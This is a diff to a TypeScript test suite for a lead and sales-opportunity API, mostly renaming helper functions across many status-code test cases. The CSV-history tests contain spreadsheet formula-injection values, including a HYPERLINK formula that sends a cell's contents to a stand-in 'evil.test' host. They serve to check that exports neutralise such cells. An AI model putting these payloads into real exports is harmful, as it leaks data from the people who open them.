@@ -173,14 +173,14 @@ interface OperationSpec {
 const READ_MODEL_500 =
   'the read-model queries read the SQLite read models only (the event store is not touched without minPosition), and a fault in SQLite cannot be injected in-process';
 
-const with_ = (req: Req, change: Partial<Req>): Req => ({ ...req, ...change, query: { ...req.query, ...change.query }, headers: { ...req.headers, ...change.headers } });
-const leadCase = (name: string, status: number, prepare: Prepare): StatusCase => ({ name, status, prepare });
+const amend = (req: Req, change: Partial<Req>): Req => ({ ...req, ...change, query: { ...req.query, ...change.query }, headers: { ...req.headers, ...change.headers } });
+const statusCase = (name: string, status: number, prepare: Prepare): StatusCase => ({ name, status, prepare });
 
 const SPECS: Record<string, OperationSpec> = {
   'POST /v1/leads': {
     prepare: async () => ({ body: { contact: { email: email(), firstName: 'Ada' }, ...highFit, source: { channel: 'web_form' } }, expect: 201 }),
     successes: [
-      leadCase('a capture that matches an existing lead by email', 200, async (api) => {
+      statusCase('a capture that matches an existing lead by email', 200, async (api) => {
         const address = email();
         await api.capture({ contact: { email: address } });
         return { body: { contact: { email: address.toUpperCase() }, source: { channel: 'seo' } }, expect: 200 };
@@ -188,54 +188,54 @@ const SPECS: Record<string, OperationSpec> = {
     ],
     vary: (req) => ({ ...req, body: { ...(req.body as object), jobTitle: 'CTO' } }),
     errors: [
-      leadCase('no source, no identity', 400, async () => ({ body: { contact: { firstName: 'x' } } })),
-      leadCase('an unknown field', 400, async () => ({ body: { contact: { email: email() }, source: { channel: 'seo' }, extra: 1 } })),
+      statusCase('no source, no identity', 400, async () => ({ body: { contact: { firstName: 'x' } } })),
+      statusCase('an unknown field', 400, async () => ({ body: { contact: { email: email() }, source: { channel: 'seo' }, extra: 1 } })),
     ],
   },
   'POST /v1/leads/{id}/activities': {
     prepare: async (api) => ({ id: await api.lead(), body: { type: 'pricing_page_view', properties: { page: '/pricing' } } }),
     vary: (req) => ({ ...req, body: { type: 'email_open' } }),
-    errors: [leadCase('an activity type the configuration does not know', 400, async (api) => ({ id: await api.lead(), body: { type: 'telepathy' } }))],
+    errors: [statusCase('an activity type the configuration does not know', 400, async (api) => ({ id: await api.lead(), body: { type: 'telepathy' } }))],
   },
   'POST /v1/leads/{id}/sql': {
     prepare: async (api) => ({ id: await api.mql(), body: { bant: allBant, qualifiedBy: 'sdr-1' } }),
     vary: (req) => ({ ...req, body: { bant: allBant, qualifiedBy: 'sdr-2' } }),
     errors: [
-      leadCase('a lead that is not an MQL', 409, async (api) => ({ id: await api.lead(), body: { bant: allBant, qualifiedBy: 'sdr-1' } })),
-      leadCase('BANT not met', 409, async (api) => ({ id: await api.mql(), body: { bant: noBant, qualifiedBy: 'sdr-1' } })),
-      leadCase('a BANT criterion missing', 400, async (api) => ({ id: await api.mql(), body: { bant: { budget: { met: true } }, qualifiedBy: 'sdr-1' } })),
+      statusCase('a lead that is not an MQL', 409, async (api) => ({ id: await api.lead(), body: { bant: allBant, qualifiedBy: 'sdr-1' } })),
+      statusCase('BANT not met', 409, async (api) => ({ id: await api.mql(), body: { bant: noBant, qualifiedBy: 'sdr-1' } })),
+      statusCase('a BANT criterion missing', 400, async (api) => ({ id: await api.mql(), body: { bant: { budget: { met: true } }, qualifiedBy: 'sdr-1' } })),
     ],
   },
   'POST /v1/leads/{id}/assign': {
     prepare: async (api) => ({ id: await api.lead(), body: { ownerId: 'rep-7' } }),
     vary: (req) => ({ ...req, body: { ownerId: 'rep-8' } }),
-    errors: [leadCase('an empty owner', 400, async (api) => ({ id: await api.lead(), body: { ownerId: '' } }))],
+    errors: [statusCase('an empty owner', 400, async (api) => ({ id: await api.lead(), body: { ownerId: '' } }))],
   },
   'POST /v1/leads/{id}/disqualify': {
     prepare: async (api) => ({ id: await api.lead(), body: { reason: 'no_budget', note: 'none this year' } }),
     vary: (req) => ({ ...req, body: { reason: 'no_need' } }),
     errors: [
-      leadCase('a lead already disqualified', 409, async (api) => ({ id: await api.disqualified(), body: { reason: 'no_need' } })),
-      leadCase('an unknown reason', 400, async (api) => ({ id: await api.lead(), body: { reason: 'bored' } })),
+      statusCase('a lead already disqualified', 409, async (api) => ({ id: await api.disqualified(), body: { reason: 'no_need' } })),
+      statusCase('an unknown reason', 400, async (api) => ({ id: await api.lead(), body: { reason: 'bored' } })),
     ],
   },
   'POST /v1/leads/{id}/recycle': {
     prepare: async (api) => ({ id: await api.lead(), body: { reason: 'not now' } }),
     vary: (req) => ({ ...req, body: { reason: 'next quarter' } }),
-    errors: [leadCase('a lead already in nurturing', 409, async (api) => ({ id: await api.nurturing(), body: {} }))],
+    errors: [statusCase('a lead already in nurturing', 409, async (api) => ({ id: await api.nurturing(), body: {} }))],
   },
   'POST /v1/leads/{id}/opportunities': {
     prepare: async (api) => ({ id: await api.sql(), body: { name: 'Acme rollout', amount: 24000, currency: 'EUR', expectedCloseDate: nextYearDate() } }),
     vary: (req) => ({ ...req, body: { amount: 1000, currency: 'EUR' } }),
     errors: [
-      leadCase('a lead that is not an SQL', 409, async (api) => ({ id: await api.lead(), body: { amount: 1000, currency: 'EUR' } })),
-      leadCase('a currency that is not ISO 4217', 400, async (api) => ({ id: await api.sql(), body: { amount: 1000, currency: 'euro' } })),
+      statusCase('a lead that is not an SQL', 409, async (api) => ({ id: await api.lead(), body: { amount: 1000, currency: 'EUR' } })),
+      statusCase('a currency that is not ISO 4217', 400, async (api) => ({ id: await api.sql(), body: { amount: 1000, currency: 'euro' } })),
     ],
   },
   'POST /v1/leads/{id}/forget': {
     prepare: async (api) => ({ id: await api.lead(), body: { reason: 'GDPR erasure request #1' } }),
     vary: (req) => ({ ...req, body: { reason: 'GDPR erasure request #2' } }),
-    errors: [leadCase('no reason', 400, async (api) => ({ id: await api.lead(), body: {} }))],
+    errors: [statusCase('no reason', 400, async (api) => ({ id: await api.lead(), body: {} }))],
   },
   // Added by the rescore (repair) work; listed here so that it is covered as soon as it is in the document.
   'POST /v1/leads/{id}/rescore': {
@@ -245,74 +245,74 @@ const SPECS: Record<string, OperationSpec> = {
   'GET /v1/leads/{id}': {
     prepare: async (api) => ({ id: await api.lead() }),
     successes: [
-      leadCase('an SQL (bant, qualifiedBy)', 200, async (api) => ({ id: await api.sql() })),
-      leadCase('a customer (convertedAt, wonOpportunityId)', 200, async (api) => ({ id: (await api.won()).leadId })),
-      leadCase('a disqualified lead', 200, async (api) => ({ id: await api.disqualified() })),
-      leadCase('a lead in nurturing', 200, async (api) => ({ id: await api.nurturing() })),
-      leadCase('a lead whose personal data was erased', 200, async (api) => ({ id: await api.erased() })),
-      leadCase('as of a business time', 200, async (api) => ({ id: await api.sql(), query: { asOf: now() } })),
-      leadCase('as of a recorded time', 200, async (api) => ({ id: await api.sql(), query: { asOf: now(), asOfTime: 'recorded' } })),
-      leadCase('as of stream revision 0', 200, async (api) => ({ id: await api.sql(), query: { revision: '0' } })),
+      statusCase('an SQL (bant, qualifiedBy)', 200, async (api) => ({ id: await api.sql() })),
+      statusCase('a customer (convertedAt, wonOpportunityId)', 200, async (api) => ({ id: (await api.won()).leadId })),
+      statusCase('a disqualified lead', 200, async (api) => ({ id: await api.disqualified() })),
+      statusCase('a lead in nurturing', 200, async (api) => ({ id: await api.nurturing() })),
+      statusCase('a lead whose personal data was erased', 200, async (api) => ({ id: await api.erased() })),
+      statusCase('as of a business time', 200, async (api) => ({ id: await api.sql(), query: { asOf: now() } })),
+      statusCase('as of a recorded time', 200, async (api) => ({ id: await api.sql(), query: { asOf: now(), asOfTime: 'recorded' } })),
+      statusCase('as of stream revision 0', 200, async (api) => ({ id: await api.sql(), query: { revision: '0' } })),
     ],
     errors: [
-      leadCase('asOf is not a time', 400, async (api) => ({ id: await api.lead(), query: { asOf: 'yesterday' } })),
-      leadCase('asOfTime is not business or recorded', 400, async (api) => ({ id: await api.lead(), query: { asOf: now(), asOfTime: 'wall' } })),
-      leadCase('a negative revision', 400, async (api) => ({ id: await api.lead(), query: { revision: '-1' } })),
+      statusCase('asOf is not a time', 400, async (api) => ({ id: await api.lead(), query: { asOf: 'yesterday' } })),
+      statusCase('asOfTime is not business or recorded', 400, async (api) => ({ id: await api.lead(), query: { asOf: now(), asOfTime: 'wall' } })),
+      statusCase('a negative revision', 400, async (api) => ({ id: await api.lead(), query: { revision: '-1' } })),
     ],
   },
   'GET /v1/leads/{id}/history': {
     // A whole journey, written by an actor and a correlation id a spreadsheet would run as formulas.
     prepare: async (api) => ({ id: (await api.won({ 'X-Actor': '=HYPERLINK("http://evil.test/?"&A1,"x")', 'X-Correlation-Id': '@SUM(A1:A9)' })).leadId }),
     successes: [
-      leadCase('as NDJSON', 200, async (api) => ({ id: (await api.won()).leadId, query: { format: 'ndjson' } })),
-      leadCase('as CSV, with formula-like cells', 200, async (api) => ({
+      statusCase('as NDJSON', 200, async (api) => ({ id: (await api.won()).leadId, query: { format: 'ndjson' } })),
+      statusCase('as CSV, with formula-like cells', 200, async (api) => ({
         id: (await api.won({ 'X-Actor': '=HYPERLINK("http://evil.test/?"&A1,"x")', 'X-Correlation-Id': '+1-1' })).leadId,
         query: { format: 'csv' },
       })),
-      leadCase('as JSON, asked for', 200, async (api) => ({ id: await api.erased(), query: { format: 'json' } })),
+      statusCase('as JSON, asked for', 200, async (api) => ({ id: await api.erased(), query: { format: 'json' } })),
     ],
-    errors: [leadCase('an unknown format', 400, async (api) => ({ id: await api.lead(), query: { format: 'xlsx' } }))],
+    errors: [statusCase('an unknown format', 400, async (api) => ({ id: await api.lead(), query: { format: 'xlsx' } }))],
   },
   'GET /v1/opportunities/{id}': {
     prepare: async (api) => ({ id: (await api.opportunity()).opportunityId }),
     successes: [
-      leadCase('a won opportunity', 200, async (api) => ({ id: (await api.won()).opportunityId })),
-      leadCase('a lost opportunity', 200, async (api) => ({ id: (await api.lost()).opportunityId })),
+      statusCase('a won opportunity', 200, async (api) => ({ id: (await api.won()).opportunityId })),
+      statusCase('a lost opportunity', 200, async (api) => ({ id: (await api.lost()).opportunityId })),
     ],
   },
   'POST /v1/opportunities/{id}/stage': {
     prepare: async (api) => ({ id: (await api.opportunity()).opportunityId, body: { stage: 'proposal' } }),
     vary: (req) => ({ ...req, body: { stage: 'negotiation' } }),
     errors: [
-      leadCase('the stage it is already in', 409, async (api) => ({ id: (await api.opportunity()).opportunityId, body: { stage: 'qualification' } })),
-      leadCase('a closed opportunity', 409, async (api) => ({ id: (await api.won()).opportunityId, body: { stage: 'negotiation' } })),
-      leadCase('a stage the pipeline does not have', 400, async (api) => ({ id: (await api.opportunity()).opportunityId, body: { stage: 'dreaming' } })),
+      statusCase('the stage it is already in', 409, async (api) => ({ id: (await api.opportunity()).opportunityId, body: { stage: 'qualification' } })),
+      statusCase('a closed opportunity', 409, async (api) => ({ id: (await api.won()).opportunityId, body: { stage: 'negotiation' } })),
+      statusCase('a stage the pipeline does not have', 400, async (api) => ({ id: (await api.opportunity()).opportunityId, body: { stage: 'dreaming' } })),
     ],
   },
   'POST /v1/opportunities/{id}/win': {
     prepare: async (api) => ({ id: (await api.opportunity()).opportunityId, body: { amount: 25000 } }),
     vary: (req) => ({ ...req, body: { amount: 26000 } }),
     errors: [
-      leadCase('an opportunity already won', 409, async (api) => ({ id: (await api.won()).opportunityId, body: {} })),
-      leadCase('a negative amount', 400, async (api) => ({ id: (await api.opportunity()).opportunityId, body: { amount: -1 } })),
+      statusCase('an opportunity already won', 409, async (api) => ({ id: (await api.won()).opportunityId, body: {} })),
+      statusCase('a negative amount', 400, async (api) => ({ id: (await api.opportunity()).opportunityId, body: { amount: -1 } })),
     ],
   },
   'POST /v1/opportunities/{id}/lose': {
     prepare: async (api) => ({ id: (await api.opportunity()).opportunityId, body: { reason: 'price', note: 'too dear' } }),
     vary: (req) => ({ ...req, body: { reason: 'timing' } }),
     errors: [
-      leadCase('an opportunity already lost', 409, async (api) => ({ id: (await api.lost()).opportunityId, body: { reason: 'price' } })),
-      leadCase('no reason', 400, async (api) => ({ id: (await api.opportunity()).opportunityId, body: {} })),
+      statusCase('an opportunity already lost', 409, async (api) => ({ id: (await api.lost()).opportunityId, body: { reason: 'price' } })),
+      statusCase('no reason', 400, async (api) => ({ id: (await api.opportunity()).opportunityId, body: {} })),
     ],
   },
   'GET /v1/leads': {
     prepare: async (api) => ({ query: { minPosition: (await api.capture(highFit)).position } }),
     successes: [
-      leadCase('filtered and sorted by last activity', 200, async (api) => {
+      statusCase('filtered and sorted by last activity', 200, async (api) => {
         await api.mql();
         return { query: { stage: 'mql', temperature: 'hot', channel: 'partner', minScore: '10', sort: 'lastActivity', minPosition: await api.head() } };
       }),
-      leadCase('a page with a next cursor, then the next page', 200, async (api) => {
+      statusCase('a page with a next cursor, then the next page', 200, async (api) => {
         await api.capture();
         const position = (await api.capture()).position;
         const first = JSON.parse((await api.send('get', '/v1/leads', { query: { limit: '1', minPosition: position } })).text);
@@ -321,25 +321,25 @@ const SPECS: Record<string, OperationSpec> = {
       }),
     ],
     errors: [
-      leadCase('limit 0', 400, async () => ({ query: { limit: '0' } })),
-      leadCase('a cursor that is not one', 400, async () => ({ query: { cursor: 'not-a-cursor' } })),
-      leadCase('an unknown stage', 400, async () => ({ query: { stage: 'prospect' } })),
-      leadCase('a minPosition that is not a position', 400, async () => ({ query: { minPosition: 'latest' } })),
+      statusCase('limit 0', 400, async () => ({ query: { limit: '0' } })),
+      statusCase('a cursor that is not one', 400, async () => ({ query: { cursor: 'not-a-cursor' } })),
+      statusCase('an unknown stage', 400, async () => ({ query: { stage: 'prospect' } })),
+      statusCase('a minPosition that is not a position', 400, async () => ({ query: { minPosition: 'latest' } })),
     ],
     notExercised: { 500: READ_MODEL_500 },
   },
   'GET /v1/funnel': {
     prepare: async (api) => ({ query: { minPosition: (await api.won()).position } }),
     successes: [
-      leadCase('grouped by channel', 200, async (api) => ({ query: { groupBy: 'channel', minPosition: (await api.lost()).position } })),
-      leadCase('grouped by campaign, for a period and a channel', 200, async (api) => {
+      statusCase('grouped by channel', 200, async (api) => ({ query: { groupBy: 'channel', minPosition: (await api.lost()).position } })),
+      statusCase('grouped by campaign, for a period and a channel', 200, async (api) => {
         const { position } = await api.won();
         return { query: { groupBy: 'campaign', channel: 'partner', from: anHourAgo(), to: now(), minPosition: position } };
       }),
     ],
     errors: [
-      leadCase('from is not a time', 400, async () => ({ query: { from: 'last week' } })),
-      leadCase('an unknown groupBy', 400, async () => ({ query: { groupBy: 'owner' } })),
+      statusCase('from is not a time', 400, async () => ({ query: { from: 'last week' } })),
+      statusCase('an unknown groupBy', 400, async () => ({ query: { groupBy: 'owner' } })),
     ],
     notExercised: { 500: READ_MODEL_500 },
   },
@@ -357,12 +357,12 @@ const SPECS: Record<string, OperationSpec> = {
       return { query: { minPosition: (await api.lost()).position } };
     },
     successes: [
-      leadCase('for a channel and a period', 200, async (api) => {
+      statusCase('for a channel and a period', 200, async (api) => {
         const { position } = await api.won();
         return { query: { channel: 'partner', from: anHourAgo(), to: now(), minPosition: position } };
       }),
     ],
-    errors: [leadCase('to is not a time', 400, async () => ({ query: { to: '31/12/2026' } }))],
+    errors: [statusCase('to is not a time', 400, async () => ({ query: { to: '31/12/2026' } }))],
     notExercised: { 500: READ_MODEL_500 },
   },
   'GET /v1/projections': { prepare: async () => ({}) },
@@ -414,13 +414,13 @@ async function sendReq(api: Api, op: Operation, req: Req): Promise<RawAnswer> {
 }
 
 /** Prepares on fresh state, changes the request, sends it; a refusal on the main app must append nothing. */
-function single(op: Operation, name: string, status: number, prepare: Prepare, change: (req: Req) => Req = (r) => r, fault?: StoreFault): Case {
+function single(op: Operation, name: string, status: number | 'success', prepare: Prepare, change: (req: Req) => Req = (r) => r, fault?: StoreFault): Case {
   return {
     name,
     app: fault ? 'faulty' : 'main',
     async run(api) {
       const req = change(await prepare(api));
-      const expected = status === 0 ? expectedSuccess(op, req) : status;
+      const expected = status === 'success' ? expectedSuccess(op, req) : status;
       if (fault) {
         api.faults!.fault = fault;
         try {
@@ -445,20 +445,20 @@ function casesOf(op: Operation, spec: OperationSpec): Case[] {
   const readModel = parameters(op).some((p) => p.in === 'query' && p.name === 'minPosition');
   const isPost = op.method === 'post';
 
-  cases.push(single(op, 'the success case', 0, spec.prepare));
+  cases.push(single(op, 'the success case', 'success', spec.prepare));
   for (const c of spec.successes ?? []) cases.push(single(op, c.name, c.status, c.prepare));
   for (const c of spec.errors ?? []) cases.push(single(op, c.name, c.status, c.prepare));
 
   if (documents(op, 400) && hasId) cases.push(single(op, 'an id that is not a UUID', 400, spec.prepare, (r) => ({ ...r, id: 'not-a-uuid' })));
   if (documents(op, 404) && hasId) cases.push(single(op, 'an id nobody has', 404, spec.prepare, (r) => ({ ...r, id: randomUUID() })));
   if (documents(op, 404) && hasId) {
-    cases.push(single(op, "another tenant's id", 404, spec.prepare, (r) => with_(r, { headers: { 'X-Tenant-Id': `other-${randomUUID().slice(0, 8)}` } })));
+    cases.push(single(op, "another tenant's id", 404, spec.prepare, (r) => amend(r, { headers: { 'X-Tenant-Id': `other-${randomUUID().slice(0, 8)}` } })));
   }
   if (documents(op, 400) && headers.includes('X-Tenant-Id')) {
-    cases.push(single(op, 'an X-Tenant-Id with spaces', 400, spec.prepare, (r) => with_(r, { headers: { 'X-Tenant-Id': 'no such tenant!' } })));
+    cases.push(single(op, 'an X-Tenant-Id with spaces', 400, spec.prepare, (r) => amend(r, { headers: { 'X-Tenant-Id': 'no such tenant!' } })));
   }
   if (documents(op, 400) && headers.includes('X-Correlation-Id')) {
-    cases.push(single(op, 'an X-Correlation-Id over 200 characters', 400, spec.prepare, (r) => with_(r, { headers: { 'X-Correlation-Id': 'c'.repeat(201) } })));
+    cases.push(single(op, 'an X-Correlation-Id over 200 characters', 400, spec.prepare, (r) => amend(r, { headers: { 'X-Correlation-Id': 'c'.repeat(201) } })));
   }
   if (documents(op, 400) && isPost) {
     cases.push(single(op, 'malformed JSON', 400, spec.prepare, (r) => ({ ...r, raw: { contentType: 'application/json', text: '{"contact": {' } })));
@@ -476,7 +476,7 @@ function casesOf(op: Operation, spec: OperationSpec): Case[] {
   if (headers.includes('Idempotency-Key')) {
     cases.push(replayCase(op, spec));
     if (spec.vary) cases.push(reuseCase(op, spec, spec.vary));
-    if (documents(op, 400)) cases.push(single(op, 'an Idempotency-Key over 200 characters', 400, spec.prepare, (r) => with_(r, { headers: { 'Idempotency-Key': 'k'.repeat(201) } })));
+    if (documents(op, 400)) cases.push(single(op, 'an Idempotency-Key over 200 characters', 400, spec.prepare, (r) => amend(r, { headers: { 'Idempotency-Key': 'k'.repeat(201) } })));
   }
   if (documents(op, 409) && isPost) cases.push(single(op, 'every append loses a concurrency race', 409, spec.prepare, undefined, 'conflicting'));
   if (documents(op, 500) && !readModel) cases.push(single(op, 'the store fails unexpectedly', 500, spec.prepare, undefined, 'broken'));
@@ -492,7 +492,7 @@ function replayCase(op: Operation, spec: OperationSpec): Case {
     name: 'a retry with the same Idempotency-Key and body',
     app: 'main',
     async run(api) {
-      const req = with_(await spec.prepare(api), { headers: { 'Idempotency-Key': `retry-${randomUUID()}` } });
+      const req = amend(await spec.prepare(api), { headers: { 'Idempotency-Key': `retry-${randomUUID()}` } });
       const expected = expectedSuccess(op, req);
       const first = await sendReq(api, op, req);
       const head = await api.head();
@@ -517,7 +517,7 @@ function reuseCase(op: Operation, spec: OperationSpec, vary: (req: Req) => Req):
     name: 'the Idempotency-Key again with another body',
     app: 'main',
     async run(api) {
-      const req = with_(await spec.prepare(api), { headers: { 'Idempotency-Key': `reuse-${randomUUID()}` } });
+      const req = amend(await spec.prepare(api), { headers: { 'Idempotency-Key': `reuse-${randomUUID()}` } });
       const first = await sendReq(api, op, req);
       const head = await api.head();
       const reused = await sendReq(api, op, vary(req));
@@ -540,7 +540,7 @@ function projectionBehindCase(op: Operation, spec: OperationSpec): Case {
       api.faults!.fault = 'processors-stalled';
       try {
         const { position } = await api.capture();
-        return [{ label: 'projection behind', answer: await sendReq(api, op, with_(req, { query: { minPosition: position } })), expected: 503 }];
+        return [{ label: 'projection behind', answer: await sendReq(api, op, amend(req, { query: { minPosition: position } })), expected: 503 }];
       } finally {
         api.faults!.fault = 'none';
       }
